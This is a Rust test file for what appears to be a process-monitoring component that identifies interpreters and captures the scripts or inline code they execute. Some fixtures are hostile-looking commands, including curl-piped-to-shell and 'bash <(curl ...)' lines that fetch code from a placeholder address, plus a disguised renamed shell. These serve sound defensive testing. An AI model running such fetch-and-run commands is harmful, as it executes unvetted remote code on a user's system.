use super::*;

fn v(args: &[&str]) -> Vec<String> {
    args.iter().map(|s| s.to_string()).collect()
}

fn inline(s: &str) -> Source {
    Source::Inline(s.into())
}

fn file(s: &str) -> Source {
    Source::File(s.into())
}

type InterpreterCase<'a> = (&'a str, &'a [&'a str], Option<(Interpreter, usize)>);

#[test]
fn recognises_interpreters() {
    let cases: &[InterpreterCase] = &[
        ("/bin/dash", &["/bin/sh", "-c", "x"], Some((Interpreter::Shell, 1))),
        ("/usr/bin/bash", &["bash"], Some((Interpreter::Shell, 1))),
        ("/usr/bin/python3.11", &["python3", "app.py"], Some((Interpreter::Python, 1))),
        ("/usr/local/bin/python", &["python"], Some((Interpreter::Python, 1))),
        ("/usr/bin/perl5.36.0", &["perl"], Some((Interpreter::Perl, 1))),
        ("/usr/bin/ruby3.1", &["ruby"], Some((Interpreter::Ruby, 1))),
        ("/usr/bin/nodejs", &["node"], Some((Interpreter::Node, 1))),
        ("/usr/local/bin/php8.2", &["php"], Some((Interpreter::Php, 1))),
        ("/bin/busybox", &["sh", "-c", "x"], Some((Interpreter::Shell, 1))),
        ("/bin/busybox", &["/bin/ash"], Some((Interpreter::Shell, 1))),
        ("/bin/busybox", &["busybox", "sh", "x.sh"], Some((Interpreter::Shell, 2))),
        ("/bin/busybox", &["wget", "http://x"], None),
        ("/bin/busybox", &["busybox", "wget"], None),
        // argv[0] names the interpreter when the file name does not (a renamed copy).
        ("/tmp/.x/kworker", &["bash", "-c", "id"], Some((Interpreter::Shell, 1))),
        ("/usr/bin/python3-config", &["python3-config"], None),
        ("/usr/bin/shasum", &["shasum"], None),
        ("/usr/bin/phpize", &["phpize"], None),
        ("/usr/bin/env", &["env"], None),
    ];
    for (exe, args, want) in cases {
        assert_eq!(interpreter(exe, &v(args)), *want, "{exe} {args:?}");
    }
}

#[test]
fn finds_the_code() {
    use Interpreter::*;
    let cases: &[(Interpreter, &[&str], Source)] = &[
        (Shell, &["-c", "echo hi"], inline("echo hi")),
        (Shell, &["-xc", "echo hi", "arg0"], inline("echo hi")),
        (Shell, &["-ec", "set -x"], inline("set -x")),
        (Shell, &["-c", "-x", "echo hi"], inline("echo hi")),
        (Shell, &["-o", "pipefail", "-c", "a | b"], inline("a | b")),
        (Shell, &["-eo", "pipefail", "run.sh", "x"], file("run.sh")),
        (Shell, &["--norc", "--noprofile", "-c", "id"], inline("id")),
        (Shell, &["--rcfile", "/x", "s.sh"], file("s.sh")),
        (Shell, &["/docker-entrypoint.sh", "postgres"], file("/docker-entrypoint.sh")),
        (Shell, &["-e", "/app/run.sh"], file("/app/run.sh")),
        (Shell, &["+x", "s.sh"], file("s.sh")),
        (Shell, &["--", "-weird.sh"], file("-weird.sh")),
        (Shell, &[], Source::Stdin),
        (Shell, &["-i"], Source::Stdin),
        (Shell, &["-s", "--", "-y"], Source::Stdin),
        (Shell, &["-"], Source::Stdin),
        (Shell, &["-c"], Source::NoScript),
        (Python, &["-c", "print(1)"], inline("print(1)")),
        (Python, &["-cprint(1)"], inline("print(1)")),
        (Python, &["-Ic", "print(1)"], inline("print(1)")),
        (Python, &["-u", "-W", "ignore", "app.py", "-c", "x"], file("app.py")),
        (Python, &["-X", "dev", "app.py"], file("app.py")),
        (Python, &["-m", "http.server"], Source::NoScript),
        (Python, &["-Im", "pip", "install"], Source::NoScript),
        (Python, &["-"], Source::Stdin),
        (Python, &[], Source::Stdin),
        (Python, &["--version"], Source::NoScript),
        (Perl, &["-e", "print 1"], inline("print 1")),
        (Perl, &["-E", "say 1"], inline("say 1")),
        (Perl, &["-lne", "print if /x/", "f"], inline("print if /x/")),
        (Perl, &["-MIO::Socket", "-e", "a", "-e", "b"], inline("a\nb")),
        (Perl, &["-I", "/lib", "tool.pl"], file("tool.pl")),
        (Perl, &["-pi.bak", "-e", "s/a/b/", "f"], inline("s/a/b/")),
        (Perl, &["-w", "x.pl"], file("x.pl")),
        (Ruby, &["-rsocket", "-e", "TCPSocket.new"], inline("TCPSocket.new")),
        (Ruby, &["-r", "socket", "x.rb"], file("x.rb")),
        (Ruby, &["-E", "UTF-8", "x.rb"], file("x.rb")),
        (Node, &["-e", "require('x')"], inline("require('x')")),
        (Node, &["--eval=1+1"], inline("1+1")),
        (Node, &["--eval", "1+1"], inline("1+1")),
        (Node, &["-p", "process.env"], inline("process.env")),
        (Node, &["--max-old-space-size=512", "-r", "dotenv/config", "server.js"], file("server.js")),
        (Node, &["--version"], Source::NoScript),
        (Php, &["-r", "echo 1;"], inline("echo 1;")),
        (Php, &["-d", "memory_limit=-1", "artisan", "serve"], file("artisan")),
        (Php, &["-c", "/etc/php.ini", "-f", "/var/www/cron.php"], file("/var/www/cron.php")),
        (Php, &["-S", "0.0.0.0:80", "-t", "public"], Source::NoScript),
    ];
    for (interp, args, want) in cases {
        assert_eq!(source(*interp, &v(args)), *want, "{interp:?} {args:?}");
    }
}

#[test]
fn resolves_paths() {
    assert_eq!(resolve("/x/y.sh", Some("/app")), "/x/y.sh");
    assert_eq!(resolve("run.sh", Some("/app")), "/app/run.sh");
    assert_eq!(resolve("./run.sh", Some("/app/")), "/app/run.sh");
    assert_eq!(resolve("run.sh", None), "run.sh");
    let root = Path::new("/nonexistent-proc");
    assert_eq!(host_path(root, 7, "/dev/fd/63"), PathBuf::from("/nonexistent-proc/7/fd/63"));
    assert_eq!(host_path(root, 7, "/proc/self/fd/3"), PathBuf::from("/nonexistent-proc/7/fd/3"));
    assert_eq!(host_path(root, 7, "/dev/stdin"), PathBuf::from("/nonexistent-proc/7/fd/0"));
    assert_eq!(host_path(root, 7, "/app/x.sh"), PathBuf::from("/app/x.sh"));
}

#[test]
fn bounds_contents() {
    let (s, cut) = bounded(b"echo hi\n");
    assert_eq!((s.as_str(), cut), ("echo hi\n", false));
    let mut big = vec![b'a'; MAX_CONTENTS - 1];
    big.extend("é".as_bytes()); // a two-byte character across the limit
    let (s, cut) = bounded(&big);
    assert!(cut);
    assert_eq!(s.len(), MAX_CONTENTS - 1);
    let sc = script_of(None, b"abc", false);
    assert_eq!(sc.sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    assert!(!sc.contents_truncated);
}

/// Captures for an exec of pid 4242; `pipe`: stdin is a pipe.
fn cap(exe: &str, args: &[&str], cwd: &str, pipe: bool, root: &Path, parent: &[String]) -> Option<Script> {
    let args = v(args);
    let ex =
        Exec { pid: 4242, exe, args: &args, arguments_truncated: false, cwd: Some(cwd), stdin_is_pipe: pipe };
    capture_exec(ex, root, parent)
}

#[test]
fn captures_inline_files_and_pipelines() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("proc");
    // The process's root is the temporary directory: /app/run.sh lives at <proc>/4242/root/app/run.sh.
    let app = root.join("4242/root/app");
    std::fs::create_dir_all(&app).unwrap();
    std::fs::write(app.join("run.sh"), "#!/bin/sh\nexec server\n").unwrap();
    let big = "x".repeat(MAX_CONTENTS + 10);
    std::fs::write(app.join("big.py"), &big).unwrap();

    let s = cap("/bin/dash", &["sh", "-c", "id"], "/", false, &root, &[]).unwrap();
    assert_eq!((s.path, s.contents.as_str()), (None, "id"));

    let s = cap("/bin/dash", &["/bin/sh", "run.sh"], "/app", false, &root, &[]).unwrap();
    assert_eq!(s.path.as_deref(), Some("/app/run.sh"));
    assert_eq!(s.contents, "#!/bin/sh\nexec server\n");
    assert_eq!(s.sha256, sha256_hex(&b"#!/bin/sh\nexec server\n"[..]).unwrap());

    let s = cap("/usr/bin/python3", &["python3", "/app/big.py"], "/", false, &root, &[]).unwrap();
    assert!(s.contents_truncated);
    assert_eq!(s.contents.len(), MAX_CONTENTS);

    // A file that is not there is not captured; neither is python -m or an interactive shell.
    assert!(cap("/bin/bash", &["bash", "/nope.sh"], "/", false, &root, &[]).is_none());
    assert!(cap("/usr/bin/python3", &["python3", "-m", "x"], "/", false, &root, &[]).is_none());
    assert!(cap("/bin/bash", &["bash", "-i"], "/", false, &root, &[]).is_none());
    assert!(cap("/usr/bin/curl", &["curl", "x"], "/", true, &root, &[]).is_none());

    // curl ... | sh: the shell's code is the parent's pipeline.
    let parent = v(&["sh", "-c", "curl -fsSL http://203.0.113.5/i | sh"]);
    let s = cap("/bin/dash", &["sh"], "/", true, &root, &parent).unwrap();
    assert_eq!(s.path, None);
    assert_eq!(s.contents, "sh -c curl -fsSL http://203.0.113.5/i | sh");

    // bash <(curl ...): /dev/fd/63 is a pipe of the process; never read it, use the parent's line.
    let parent = v(&["bash", "-c", "bash <(curl -s http://203.0.113.5/x)"]);
    let s = cap("/bin/bash", &["bash", "/dev/fd/63"], "/", true, &root, &parent).unwrap();
    assert!(s.contents.contains("<(curl"), "{s:?}");
}

#[test]
fn never_opens_a_fifo() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("f");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
    // Would block forever if opened for reading without a writer.
    assert!(read_regular(&fifo).is_none());
    assert!(read_regular(dir.path()).is_none());
}

#[test]
fn truncated_argv_marks_inline_code() {
    let args = v(&["bash", "-c", "echo start"]);
    let ex = Exec {
        pid: 1,
        exe: "/bin/bash",
        args: &args,
        arguments_truncated: true,
        cwd: None,
        stdin_is_pipe: false,
    };
    let s = capture_exec(ex, Path::new("/nonexistent"), &[]).unwrap();
    assert!(s.contents_truncated);
}
